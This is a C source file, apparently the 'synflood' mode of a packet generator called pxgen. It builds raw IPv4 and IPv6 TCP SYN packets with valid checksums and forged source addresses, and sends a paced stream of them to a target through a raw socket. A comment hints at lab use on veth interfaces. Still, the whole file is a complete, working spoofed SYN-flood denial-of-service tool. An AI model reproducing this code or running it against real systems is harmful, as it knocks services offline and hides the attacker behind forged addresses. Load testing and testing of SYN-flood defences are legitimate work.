/* synflood.c - pxgen synflood: N bare TCP SYNs to --dst from spoofed
 * source addresses, written whole (IP header included) to a raw socket.
 * Nothing is read: the answers go to the spoofed addresses. */
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <time.h>
#include <unistd.h>

#include "gen.h"

/* A SYN carries MSS like a real one: 20 bytes of TCP header + 4. */
#define TCP_LEN 24
#define MSS 1460
#define TTL 64
#define WINDOW 64240

static uint64_t rng_state;

static void rng_seed(void)
{
	if (getrandom(&rng_state, sizeof(rng_state), 0) !=
	    (ssize_t)sizeof(rng_state))
		rng_state = (uint64_t)time(NULL) ^ ((uint64_t)getpid() << 32);
	if (rng_state == 0)
		rng_state = 0x9e3779b97f4a7c15ULL;
}

/* xorshift64*: fast, and good enough for ports and sequence numbers */
static uint32_t rng(void)
{
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return (uint32_t)((rng_state * 0x2545f4914f6cdd1dULL) >> 32);
}

static uint32_t sum16(const void *data, size_t len, uint32_t sum)
{
	const uint8_t *p = data;

	for (; len > 1; p += 2, len -= 2)
		sum += (uint32_t)p[0] << 8 | p[1];
	if (len)
		sum += (uint32_t)p[0] << 8;
	return sum;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

/* The TCP header of a SYN at tcp, its checksum over the pseudo header
 * (addresses of alen bytes each). */
static void build_syn(uint8_t *tcp, const void *saddr, const void *daddr,
		      size_t alen, unsigned dport)
{
	struct tcphdr *th = (struct tcphdr *)tcp;
	uint32_t sum;

	memset(tcp, 0, TCP_LEN);
	/* ephemeral-looking source ports, never 0 */
	th->source = htons((uint16_t)(1024 + rng() % (65536 - 1024)));
	th->dest = htons((uint16_t)dport);
	th->seq = htonl(rng());
	th->doff = TCP_LEN / 4;
	th->syn = 1;
	th->window = htons(WINDOW);
	tcp[20] = 2; /* option MSS, length 4 */
	tcp[21] = 4;
	tcp[22] = MSS >> 8;
	tcp[23] = MSS & 0xff;
	sum = sum16(saddr, alen, 0);
	sum = sum16(daddr, alen, sum);
	sum += IPPROTO_TCP + TCP_LEN;
	sum = sum16(tcp, TCP_LEN, sum);
	th->check = fold(sum);
}

/* One whole packet for --dst from spoof into buf; its length. */
static size_t build_packet(uint8_t *buf, const gen_addr_t *spoof,
			   const gen_addr_t *dst, unsigned dport)
{
	if (dst->family == AF_INET) {
		struct iphdr *ip = (struct iphdr *)buf;

		memset(ip, 0, sizeof(*ip));
		ip->version = 4;
		ip->ihl = 5;
		ip->tot_len = htons(sizeof(*ip) + TCP_LEN);
		ip->id = htons((uint16_t)rng());
		ip->frag_off = htons(IP_DF);
		ip->ttl = TTL;
		ip->protocol = IPPROTO_TCP;
		ip->saddr = spoof->u.v4.sin_addr.s_addr;
		ip->daddr = dst->u.v4.sin_addr.s_addr;
		ip->check = fold(sum16(ip, sizeof(*ip), 0));
		build_syn(buf + sizeof(*ip), &ip->saddr, &ip->daddr, 4, dport);
		return sizeof(*ip) + TCP_LEN;
	} else {
		struct ip6_hdr *ip6 = (struct ip6_hdr *)buf;

		memset(ip6, 0, sizeof(*ip6));
		ip6->ip6_flow = htonl(6U << 28);
		ip6->ip6_plen = htons(TCP_LEN);
		ip6->ip6_nxt = IPPROTO_TCP;
		ip6->ip6_hlim = TTL;
		ip6->ip6_src = spoof->u.v6.sin6_addr;
		ip6->ip6_dst = dst->u.v6.sin6_addr;
		build_syn(buf + sizeof(*ip6), &ip6->ip6_src, &ip6->ip6_dst, 16,
			  dport);
		return sizeof(*ip6) + TCP_LEN;
	}
}

/* Arms a one-shot wake for when fd is writable again. */
static int arm(int ep, int fd, int *added)
{
	struct epoll_event ev = { .events = EPOLLOUT | EPOLLONESHOT };

	if (epoll_ctl(ep, *added ? EPOLL_CTL_MOD : EPOLL_CTL_ADD, fd, &ev) < 0)
		return -errno;
	*added = 1;
	return 0;
}

int gen_cmd_synflood(const gen_opts_t *o)
{
	struct epoll_event ev[1];
	gen_errs_t errs;
	gen_addr_t to = o->dst;
	uint8_t pkt[sizeof(struct ip6_hdr) + TCP_LEN];
	unsigned long next = 0, sent = 0, errors = 0;
	int64_t start_us, deadline, now, due;
	int fd, ep = -1, rc = GEN_EXIT_FAIL, timed_out = 0, added = 0, n;
	int wait_writable, wait_nobufs;
	size_t len;

	memset(&errs, 0, sizeof(errs));
	rng_seed();
	/* IPPROTO_RAW: we write the IP header (IP_HDRINCL is implied, for
	 * IPv6 too); the socket receives nothing */
	fd = socket(o->dst.family, SOCK_RAW | SOCK_NONBLOCK | SOCK_CLOEXEC,
		    IPPROTO_RAW);
	if (fd < 0) {
		gen_err(o, "raw socket: %s%s", strerror(errno),
			errno == EPERM ? " (needs root or CAP_NET_RAW)" : "");
		return GEN_EXIT_FAIL;
	}
	/* for a raw IPv6 socket the port field must be 0 or the protocol */
	if (to.family == AF_INET6)
		to.u.v6.sin6_port = 0;
	else
		to.u.v4.sin_port = 0;
	ep = epoll_create1(EPOLL_CLOEXEC);
	if (ep < 0) {
		gen_err(o, "epoll_create1: %s", strerror(errno));
		goto out;
	}

	start_us = gen_now_us();
	deadline = start_us + (int64_t)o->timeout_s * 1000000;
	while (!gen_stopping && next < o->count) {
		now = gen_now_us();
		if (now >= deadline) {
			timed_out = 1;
			break;
		}
		wait_writable = wait_nobufs = 0;
		while (next < o->count &&
		       gen_pace_due(start_us, next, o->rate) <= now) {
			len = build_packet(pkt, &o->spoof.a[next % o->spoof.n],
					   &o->dst, (unsigned)o->port);
			if (sendto(fd, pkt, len, 0, &to.u.sa, to.len) ==
			    (ssize_t)len) {
				sent++;
				next++;
				continue;
			}
			if (errno == EINTR)
				continue;
			/* a full socket buffer or device queue: wait, then
			 * send the same packet again */
			if (errno == EAGAIN || errno == EWOULDBLOCK) {
				wait_writable = 1;
				break;
			}
			if (errno == ENOBUFS) {
				wait_nobufs = 1;
				break;
			}
			errors++;
			if (gen_errs_note(&errs, -errno))
				gen_err(o, "sendto %s: %s (counted as errors=)",
					o->dst.text, strerror(errno));
			next++;
		}
		if (next == o->count)
			break;
		due = deadline;
		if (wait_writable) {
			if (arm(ep, fd, &added) < 0) {
				gen_err(o, "epoll_ctl: %s", strerror(errno));
				goto out;
			}
		} else if (wait_nobufs) {
			/* ENOBUFS never makes the socket writable later: try
			 * again after 1 ms, a few packets' time on a veth */
			if (now + 1000 < due)
				due = now + 1000;
		} else if (gen_pace_due(start_us, next, o->rate) < due) {
			due = gen_pace_due(start_us, next, o->rate);
		}
		n = gen_wait(ep, ev, 1, due);
		if (n < 0) {
			gen_err(o, "epoll_wait: %s", strerror(-n));
			goto out;
		}
	}
	printf("mode=synflood\n");
	printf("sent=%lu\n", sent);
	printf("errors=%lu\n", errors);
	gen_errs_print(&errs);
	gen_print_end(start_us, timed_out);
	rc = GEN_EXIT_OK;
out:
	if (ep >= 0)
		close(ep);
	close(fd);
	return rc;
}
